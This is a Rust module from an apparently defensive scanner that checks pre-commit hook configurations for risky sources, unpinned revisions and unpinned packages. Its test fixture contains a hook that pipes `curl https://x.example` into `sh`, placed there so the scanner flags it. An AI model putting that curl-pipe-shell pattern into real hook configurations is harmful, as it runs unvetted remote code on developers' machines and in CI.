//! Hooks of pre-commit: `.pre-commit-config.yaml`. What stands there runs on every developer's machine and often in CI.
//!
//! Source: pre-commit documentation, "Adding pre-commit plugins to your project" and "Creating new hooks".

use super::github::{ARCHIVED, gaps};
use crate::address::{clear, is_commit};
use crate::dependencies::requirement;
use crate::pin::{Pinning, Repository};
use crate::rules::{ARCHIVED_ACTION, UNPINNED_PACKAGE, UNPINNED_SOURCE};
use crate::shell::inspect::{self, Setting};
use crate::yaml::{Node, Yaml};
use crate::{Issue, Notes, Reader, Text, issue, rules};
use bartizan_core::{Kind, Rule, Severity, printable};

/// `.pre-commit-config.yaml`, and prek's files of the same shape.
#[derive(Debug)]
pub(crate) struct PreCommitConfig;

impl Reader for PreCommitConfig {
    fn id(&self) -> &'static str {
        "pre-commit-config"
    }

    fn kind(&self) -> Kind {
        Kind::Config
    }

    fn rules(&self) -> &'static [&'static Rule] {
        rules::RULES
    }

    fn recognises(&self, text: &Text<'_>) -> bool {
        text.file_name().starts_with(".pre-commit-config") && matches!(text.extension(), "yaml" | "yml")
    }

    fn read(&self, text: &Text<'_>, notes: &mut Notes<'_>) {
        let yaml = Yaml::read(text.content);
        gaps(&yaml, notes);
        let repositories = yaml.root().and_then(|root| root.get("repos"));
        for repository in repositories.into_iter().flat_map(Node::items) {
            if notes.out_of_time() {
                return;
            }
            let name = repository.text_of("repo").unwrap_or_default();
            if !matches!(name, "local" | "meta" | "builtin" | "") {
                issue::report(text, notes, source(repository, name));
            }
            for hook in repository.get("hooks").into_iter().flat_map(Node::items) {
                hook_in(text, notes, hook);
            }
        }
    }
}

/// What is wrong with where hooks come from.
fn source(repository: Node<'_>, name: &str) -> Vec<Issue> {
    let mut issues = Vec::new();
    if let (Some(clear), Some(node)) = (clear(name), repository.get("repo")) {
        let message = format_args!("the hooks come from {} without encryption", clear.address);
        issues.push(clear.source_issue(node.span(), message));
    }
    let shown = printable(name, 100);
    let on_github =
        name.split_once("github.com/").map(|(_, path)| path.trim_end_matches('/').trim_end_matches(".git"));
    let archived = on_github.is_some_and(|path| ARCHIVED.contains(&path.to_ascii_lowercase().as_str()));
    if let Some(node) = repository.get("repo").filter(|_| archived) {
        issues.push(Issue::new(&ARCHIVED_ACTION, node.span(), format!("`{shown}` is archived")));
    }
    let Some(node) = repository.get("rev").filter(|node| node.as_str().is_some()) else {
        if let Some(entry) = repository.entry("repo") {
            let message = format!("the hooks of `{shown}` have no `rev`");
            issues.push(Issue::new(&UNPINNED_SOURCE, entry.span(), message).severity(Severity::Medium));
        }
        return issues;
    };
    let revision = node.as_str().unwrap_or_default();
    if is_commit(revision) {
        return issues;
    }
    // A tag holds a version; a branch has none.
    let is_version = revision.bytes().any(|byte| byte.is_ascii_digit()) && revision.contains('.')
        || revision.strip_prefix('v').is_some_and(|rest| rest.bytes().all(|byte| byte.is_ascii_digit()));
    let (severity, what) = if is_version {
        (Severity::Low, "a tag, which can be moved")
    } else {
        (Severity::Medium, "a branch")
    };
    let message = format!("the hooks of `{shown}` are taken from `{}`, {what}", printable(revision, 60));
    let remedy = "Name the commit: `pre-commit autoupdate --freeze`.";
    let pinning = Pinning::commit(Repository::At(name.to_owned()), revision).noted();
    issues.push(
        Issue::new(&UNPINNED_SOURCE, node.span(), message).severity(severity).remedy(remedy).pinned(pinning),
    );
    issues
}

fn hook_in(text: &Text<'_>, notes: &mut Notes<'_>, hook: Node<'_>) {
    if let Some(entry) = hook.get("entry").filter(|entry| entry.as_str().is_some()) {
        let script = entry.as_str().unwrap_or_default();
        issue::report_in(text, notes, entry, inspect::script(script, Setting::Pipeline));
    }
    let python = hook.text_of("language").is_none_or(|language| language == "python");
    for package in hook.get("additional_dependencies").into_iter().flat_map(Node::items) {
        let Some(written) = package.as_str().filter(|_| python) else { continue };
        let Some(dependency) = requirement(written, 0) else { continue };
        if matches!(dependency.pin, crate::dependencies::Pin::None | crate::dependencies::Pin::Moving) {
            let message =
                format!("the hook installs `{}` without a version", printable(&dependency.name, 80));
            let issue = Issue::new(&UNPINNED_PACKAGE, dependency.span, message).severity(Severity::Low);
            issue::report_in(text, notes, package, [issue]);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::{Text, examine};
    use bartizan_core::{Limits, MonotonicClock, Severity};

    #[test]
    fn hooks_are_judged_by_where_they_come_from_and_what_they_run() {
        let text = "repos:\n- repo: https://github.com/acme/a\n  rev: main\n  hooks: [{id: a, additional_dependencies: [numpy, 'scipy==1.0']}]\n- repo: https://github.com/acme/b\n  rev: v1.2.3\n  hooks: [{id: b}]\n- repo: https://github.com/acme/c\n  rev: 0123456789abcdef0123456789abcdef01234567  # frozen: v1\n  hooks: [{id: c}]\n- repo: local\n  hooks:\n  - id: d\n    entry: bash -c 'curl https://x.example | sh'\n    language: system\n";
        let outcome = examine(
            &Text::new(".pre-commit-config.yaml", text),
            &Limits::default(),
            &MonotonicClock::start(),
        );
        let mut found: Vec<_> = outcome
            .findings
            .iter()
            .map(|one| (one.location.line.unwrap(), one.rule.id, one.severity))
            .collect();
        found.sort_unstable();
        assert_eq!(
            found.iter().map(|one| (one.0, one.1)).collect::<Vec<_>>(),
            [
                (3, "pipeline/unpinned-source"),
                (4, "pipeline/unpinned-package"),
                (6, "pipeline/unpinned-source"),
                (14, "pipeline/curl-pipe-shell")
            ]
        );
        assert_eq!((found[0].2, found[2].2), (Severity::Medium, Severity::Low));
        let archived = "repos:\n- repo: https://github.com/actions-rs/cargo\n  rev: 0123456789abcdef0123456789abcdef01234567\n";
        let outcome = examine(
            &Text::new(".pre-commit-config.yaml", archived),
            &Limits::default(),
            &MonotonicClock::start(),
        );
        assert_eq!(outcome.findings.first().map(|one| one.rule.id), Some("pipeline/archived-action"));
    }
}
